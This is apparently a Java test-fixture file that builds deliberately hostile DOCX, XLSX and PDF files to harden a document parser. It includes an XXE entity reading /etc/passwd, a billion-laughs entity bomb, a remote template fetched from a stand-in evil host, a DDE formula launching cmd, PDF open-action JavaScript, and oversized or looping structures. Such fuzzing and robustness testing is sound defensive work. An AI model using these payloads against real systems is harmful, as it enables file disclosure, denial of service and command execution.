package io.github.taipei1.verify.hostile;

import io.github.taipei1.bundle.zip.ZipForge;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;

/** Word, Excel and PDF files that nobody should open. */
final class OfficeFiles {
    private static final String W = "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"";
    private static final String RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final int ROUNDS = 25;

    private OfficeFiles() {}

    static void into(Inbox inbox) {
        Map<String, byte[]> files = new LinkedHashMap<>();
        word(files);
        excel(files);
        pdfs(files);
        files.forEach((name, bytes) -> {
            String bundle = name.replace('/', '-').replace('.', '-');
            inbox.bundle("report-" + bundle, Inbox.config(""), Map.of(name, bytes), "report");
            inbox.bundle("paper-" + bundle, Inbox.config(""), Map.of("paper/" + name, bytes), "source");
        });
        Map<String, byte[]> many = new LinkedHashMap<>();
        Random random = new Random(11);
        for (int i = 0; i < ROUNDS; i++) {
            many.put("paper/hurt-" + i + ".docx", hurt(files.get("plain.docx"), random));
            many.put("paper/hurt-" + i + ".pdf", hurt(files.get("plain.pdf"), random));
        }
        inbox.bundle("papers-hurt", Inbox.config(""), many, "source");
    }

    private static byte[] hurt(byte[] good, Random random) {
        byte[] bytes = good.clone();
        for (int i = 0; i < 4; i++) {
            bytes[random.nextInt(bytes.length)] = (byte) random.nextInt();
        }
        return bytes;
    }

    private static byte[] office(String main, String body, Map<String, String> more) {
        ZipForge zip = new ZipForge();
        zip.add("[Content_Types].xml", "<Types/>");
        zip.add(
                "_rels/.rels",
                "<Relationships><Relationship Id=\"r\" Type=\"" + RELATIONS + "officeDocument\" Target=\"" + main
                        + "\"/></Relationships>");
        zip.add(main, body).deflated();
        more.forEach((name, text) -> zip.add(name, text).deflated());
        return zip.bytes();
    }

    private static byte[] docx(String body) {
        return office(
                "word/document.xml", "<w:document " + W + "><w:body>" + body + "</w:body></w:document>", Map.of());
    }

    private static String paragraph(String text) {
        return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>";
    }

    private static void word(Map<String, byte[]> files) {
        files.put("plain.docx", docx(paragraph("Taipei-1 H100")));
        files.put("deep.docx", docx("<w:tbl><w:tr><w:tc>".repeat(20_000)));
        files.put("wide.docx", docx(paragraph("Taipei-1").repeat(2_000)));
        files.put("zeros.docx", docx(paragraph("\0")));
        files.put("long.docx", docx(paragraph("長".repeat(100_000))));
        files.put(
                "laughs.docx",
                office(
                        "word/document.xml",
                        "<!DOCTYPE x [<!ENTITY a \"" + "b".repeat(1_000) + "\"><!ENTITY c \"" + "&a;".repeat(1_000)
                                + "\">]><w:document " + W + "><w:body>" + paragraph("&c;".repeat(100))
                                + "</w:body></w:document>",
                        Map.of()));
        files.put(
                "outside.docx",
                office(
                        "word/document.xml",
                        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><w:document " + W + "><w:body>"
                                + paragraph("&a;") + "</w:body></w:document>",
                        Map.of()));
        files.put(
                "remote.docx",
                office(
                        "word/document.xml",
                        "<w:document " + W + "><w:body>" + paragraph("x") + "</w:body></w:document>",
                        Map.of(
                                "word/_rels/document.xml.rels",
                                "<Relationships><Relationship Id=\"t\" Type=\"" + RELATIONS
                                        + "attachedTemplate\" Target=\"http://evil.example/x.dotm\" TargetMode=\"External\"/></Relationships>",
                                "word/vbaProject.bin",
                                "x")));
        files.put("loop.docx", office("_rels/.rels", "<Relationships/>", Map.of()));
        files.put(
                "styles.docx",
                office(
                        "word/document.xml",
                        "<w:document " + W + "><w:body>" + paragraph("x") + "</w:body></w:document>",
                        Map.of(
                                "word/styles.xml",
                                "<w:styles " + W + "><w:style><w:outlineLvl w:val=\"-99999999999\"/>")));
    }

    private static void excel(Map<String, byte[]> files) {
        String sheet = "<worksheet><sheetData>%s</sheetData></worksheet>";
        Map<String, String> rows = new LinkedHashMap<>();
        rows.put("far.xlsx", "<row r=\"99999999999\"><c r=\"ZZZZZZZ99999999999\"><v>1e999</v></c></row>");
        rows.put("many.xlsx", "<row><c><v>1</v></c><c><v>2</v></c></row>".repeat(20_000));
        rows.put("shared.xlsx", "<row><c t=\"s\"><v>4294967296</v></c><c t=\"s\"><v>-1</v></c></row>");
        rows.put("formula.xlsx", "<row><c><f>DDE(\"cmd\",\"/C calc\",\"x\")</f><v>1</v></c></row>");
        rows.put("style.xlsx", "<row><c s=\"999999999\"><v>99999999999999999999</v></c></row>");
        rows.forEach((name, text) -> files.put(
                name,
                office(
                        "xl/workbook.xml",
                        "<workbook><sheets><sheet name=\"=x\" r:id=\"s\" xmlns:r=\"r\"/></sheets></workbook>",
                        Map.of(
                                "xl/_rels/workbook.xml.rels",
                                "<Relationships><Relationship Id=\"s\" Type=\"" + RELATIONS
                                        + "worksheet\" Target=\"worksheets/sheet1.xml\"/></Relationships>",
                                "xl/worksheets/sheet1.xml",
                                sheet.formatted(text)))));
    }

    private static void pdfs(Map<String, byte[]> files) {
        String page = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>";
        String font = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>";
        files.put(
                "plain.pdf",
                pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream("BT /F 9 Tf (Taipei-1) Tj ET"), font));
        files.put("cut.pdf", Inbox.bytes("%PDF-1.7\n1 0 obj\n<<"));
        files.put("loop.pdf", pdf("<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>", page, stream(""), font));
        files.put("parent.pdf", pdf("<</Type/Pages/Parent 2 0 R/Kids[3 0 R]/Count 1>>", page, stream("("), font));
        files.put("nested.pdf", pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream("[".repeat(200_000)), font));
        files.put("dictionaries.pdf", pdf("<</A".repeat(50_000), page, stream(""), font));
        files.put("saves.pdf", pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream("q ".repeat(100_000)), font));
        files.put(
                "script.pdf",
                pdf(
                        "<</Type/Pages/Kids[3 0 R]/Count 1/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>",
                        page,
                        stream(""),
                        font));
        files.put("form.pdf", pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", page, stream("/X Do"), font));
        files.put(
                "length.pdf",
                pdf("<</Type/Pages/Kids[3 0 R]/Count 1>>", page, "<</Length 99999999999>>\nstream\nx", font));
        files.put(
                "filters.pdf",
                pdf(
                        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                        page,
                        "<</Length 1/Filter[" + "/FlateDecode".repeat(5_000) + "]>>\nstream\nx\nendstream",
                        font));
        files.put(
                "locked.pdf",
                Inbox.bytes("%PDF-1.7\ntrailer<</Encrypt<</Filter/Standard/V 5/R 6/Length -1>>/Root 1 0 R>>\n%%EOF"));
    }

    private static String stream(String content) {
        return "<</Length " + content.length() + ">>\nstream\n" + content + "\nendstream";
    }

    /** Objects 2 to 5 behind the catalogue; the reader finds their places by itself. */
    private static byte[] pdf(String... objects) {
        StringBuilder text = new StringBuilder("%PDF-1.7\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n");
        for (int i = 0; i < objects.length; i++) {
            text.append(i + 2).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
        }
        return Inbox.bytes(text.append("trailer<</Root 1 0 R/Size 9>>\nstartxref\n0\n%%EOF")
                .toString());
    }
}
